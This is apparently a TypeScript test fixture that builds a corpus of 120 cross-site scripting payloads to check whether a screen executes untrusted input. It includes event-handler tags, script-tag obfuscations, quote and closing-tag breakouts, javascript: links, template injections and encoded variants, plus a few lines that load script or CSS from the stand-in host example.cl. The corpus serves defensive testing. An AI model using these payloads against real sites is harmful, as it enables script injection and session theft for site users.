/** The property that a text sets on the window when a screen executes it. */
export const mark = 'xssRan'

const run = `window.${mark}=1`
const tags = [
  'img src=x onerror',
  'svg onload',
  'body onload',
  'video src=x onerror',
  'audio src=x onerror',
  'details open ontoggle',
]
const quotes = ['"', "'", '`']
const addresses = ['javascript', 'JaVaScRiPt', 'java\tscript', ' javascript', 'vbscript', 'data'].map(
  (scheme) => `${scheme}:`,
)
const closers = ['</title>', '</textarea>', '</script>', '</style>', '-->', ']]>']

const elements = tags.flatMap((tag) => [
  `<${tag}=${run}>`,
  `<${tag}="${run}">`,
  `<${tag.toUpperCase()}=${run}//`,
  `&lt;${tag}=${run}&gt;`,
])
const scripts = [
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script src=//example.cl></script>`,
  `<script\n>${run}</script\n>`,
  `<<script>${run}//<</script>`,
]
const breakouts = quotes.flatMap((quote) => [
  `${quote}><script>${run}</script>`,
  `${quote} onmouseover=${quote}${run}`,
  `${quote} autofocus onfocus=${run} x=${quote}`,
  `${quote};${run};//`,
  `${quote}}-${run}-{${quote}`,
])
const closings = closers.flatMap((closer) => [
  `${closer}<script>${run}</script>`,
  `${closer}<img src=x onerror=${run}>`,
])
const links = addresses.flatMap((address) => [
  `${address}${run}`,
  `<a href="${address}${run}">toca</a>`,
  `<iframe src="${address}${run}"></iframe>`,
  `[toca](${address}${run})`,
])
const templates = [
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `<%= ${run} %>`,
  `#{${run}}`,
  `{{${run}}}`,
  `<template><script>${run}</script></template>`,
]
const odd = [
  `<math><mtext><img src=x onerror=${run}></mtext></math>`,
  `<form><button formaction=javascript:${run}>x</button></form>`,
  `<object data=javascript:${run}>`,
  `<embed src=javascript:${run}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<base href=//example.cl/>`,
  `<style>@import "//example.cl/x.css";</style>`,
  `<div style="background:url(javascript:${run})">`,
  `<link rel=stylesheet href=//example.cl/x.css>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}>`,
  `<marquee onstart=${run}>`,
  `<isindex type=image src=x onerror=${run}>`,
  `<img src="x\` \`<script>${run}</script>"\` \`>`,
  `\\u003cimg src=x onerror=${run}\\u003e`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `\u202e<script>${run}</script>`,
  `\ufeff<img src=x onerror=${run}>`,
  `<a href=x onclick=${run}>__proto__</a>`,
  `constructor`,
  `<!--<img src="--><img src=x onerror=${run}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<svg><script>${run}</script></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<keygen autofocus onfocus=${run}>`,
  `<textarea autofocus onfocus=${run}>`,
  `<dialog open onclose=${run}>`,
  `<x contenteditable onblur=${run}>`,
  `<a draggable=true ondragstart=${run}>`,
  `<portal src=javascript:${run}>`,
  `'-${run}-'`,
]

/** 120 texts that attempt cross-site scripting (S-25). */
export const corpus: readonly string[] = [
  ...new Set([...elements, ...scripts, ...breakouts, ...closings, ...links, ...templates, ...odd]),
].slice(0, 120)
